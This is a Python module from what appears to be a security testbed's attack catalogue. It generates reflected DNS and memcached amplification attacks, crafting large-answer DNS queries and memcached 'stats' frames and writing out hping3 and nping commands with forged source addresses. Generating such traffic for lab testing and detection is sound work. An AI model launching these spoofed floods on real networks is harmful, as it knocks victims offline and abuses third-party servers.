"""Denial of service by answers that servers send to somebody who did not ask."""

import struct

from testbed.attacks.material import forged, maybe, words
from testbed.catalogue import Assault, attack

AMPLIFIED = "T1498.002"


def dns_question(c, name: str, kind: int) -> bytes:
    """A DNS query for a large answer (RFC 1035, RFC 6891)."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    header = struct.pack(">HHHHHH", c.between(1, 65535), 0x0100, 1, 0, 0, 1)
    return (
        header
        + labels
        + b"\0"
        + struct.pack(">HH", kind, 1)
        + b"\0"
        + struct.pack(">HHIH", 41, c.choose(1232, 2048, 4096), 0, 0)
    )


def reflected(c, service: str, port: int, question: bytes) -> tuple[list[str], str]:
    """What makes a server answer somebody else: the forged source, and the command of hping3."""
    payload, source, target = c.write("question", question), forged(c, 1)[0], c.server(service).address
    command = words(
        "hping3 -q --udp",
        maybe(c, 0.5, "-k"),
        f"-s {c.between(1025, 60000)} -p {port}",
        f"-i u{c.between(8000, 50000)} -c {c.between(120, 400)} -d {len(question)} -E {payload}",
        f"-a {source} {target}",
    )
    return [source, target], command


def question(c) -> bytes:
    """The sites out there publish keys of about a kilobyte; 16 is TXT, 255 is ANY."""
    return dns_question(c, f"_keys.{c.choose(*c.network.sites)}", c.choose(16, 16, 255))


@attack(
    "dns_amplification",
    technique=AMPLIFIED,
    tool="hping3",
    origins=("outside",),
    needs=("dns",),
    packages=("hping3",),
    seconds=20,
)
def hping_reflected_dns(c):
    return Assault(reflected(c, "dns", 53, question(c))[1])


@attack(
    "dns_amplification",
    technique=AMPLIFIED,
    tool="nping",
    origins=("outside",),
    needs=("dns",),
    packages=("nmap",),
    seconds=20,
)
def nping_reflected_dns(c):
    return Assault(
        f"nping -q --send-ip --udp -N -g {c.between(1025, 60000)} -p 53 --rate {c.between(20, 120)}"
        f" -c {c.between(120, 400)} --data {question(c).hex()} -S {forged(c, 1)[0]} {c.server('dns').address}"
    )


@attack(
    "amp_memcached",
    technique=AMPLIFIED,
    tool="hping3",
    origins=("outside",),
    needs=("memcached",),
    packages=("hping3",),
    seconds=20,
)
def hping_reflected_memcached(c):
    return Assault(reflected(c, "memcached", 11211, memcached_question(c))[1])


@attack(
    "amp_memcached",
    technique=AMPLIFIED,
    tool="nping",
    origins=("outside",),
    needs=("memcached",),
    packages=("nmap",),
    seconds=20,
)
def nping_reflected_memcached(c):
    return Assault(
        f"nping -q --send-ip --udp -N -g {c.between(1025, 60000)} -p 11211 --rate {c.between(20, 120)}"
        f" -c {c.between(120, 400)} --data {memcached_question(c).hex()} -S {forged(c, 1)[0]}"
        f" {c.server('memcached').address}"
    )


def memcached_question(c) -> bytes:
    """A frame of memcached's UDP protocol with one command."""
    command = c.choose("stats", "stats settings")
    return struct.pack(">HHHH", c.between(1, 65535), 0, 1, 0) + command.encode() + b"\r\n"
